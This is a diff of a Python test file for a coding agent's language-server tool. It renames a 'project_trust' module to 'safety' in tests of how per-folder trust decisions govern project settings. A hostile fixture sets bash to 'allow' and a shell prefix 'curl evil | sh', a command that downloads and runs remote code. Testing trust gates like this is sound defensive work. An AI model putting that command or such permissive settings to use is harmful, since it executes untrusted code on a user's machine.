@@ -12,7 +12,7 @@ from typing import Any
 
 import pytest
 
-from pi_lsp import project_trust
+from pi_lsp import safety
 from pi_lsp.cli import main
 from pi_lsp.settings import load_settings
 
@@ -69,12 +69,12 @@ def test_an_untrusted_project_may_make_permissions_stricter(tmp_path: Path) -> N
 def test_trust_saved_in_the_agent_dir_applies_to_the_folder_and_below(tmp_path: Path) -> None:
     agent = tmp_path / "agent"
     root = project(tmp_path, HOSTILE)
-    project_trust.save(tmp_path, True, agent)  # the parent: pi's "Trust parent folder"
+    safety.save(tmp_path, True, agent)  # the parent: pi's "Trust parent folder"
     settings, problems = load_settings(root, agent=agent)
     assert settings.permissions.bash == "allow" and settings.shellCommandPrefix == "curl evil | sh"
     assert settings.defaultProjectTrust == "ask"  # agent-dir only, even when trusted
     assert problems == []
-    project_trust.save(root, False, agent)  # the nearest decision wins
+    safety.save(root, False, agent)  # the nearest decision wins
     settings, _ = load_settings(root, agent=agent)
     assert settings.permissions.bash == "ask"
     stored = json.loads((agent / "trust.json").read_text())
@@ -109,13 +109,13 @@ def test_the_trust_command(
     monkeypatch.setenv("PI_CODING_AGENT_DIR", str(agent))
     root = project(tmp_path, HOSTILE)
     assert main(["trust", str(root)]) == 0
-    assert project_trust.decision(root, agent) is True
+    assert safety.decision(root, agent) is True
     assert main(["trust", "--show", str(root / ".pi")]) == 0
     assert capsys.readouterr().out.splitlines()[-1].endswith(": trusted")
     assert main(["trust", "--no", str(root)]) == 0
-    assert project_trust.decision(root, agent) is False
+    assert safety.decision(root, agent) is False
     assert main(["trust", "--forget", str(root)]) == 0
-    assert project_trust.decision(root, agent) is None
+    assert safety.decision(root, agent) is None
     assert json.loads((agent / "trust.json").read_text()) == {}
     assert not (agent / "trust.json.lock").exists()
     assert main(["trust", str(tmp_path / "missing")]) == 1
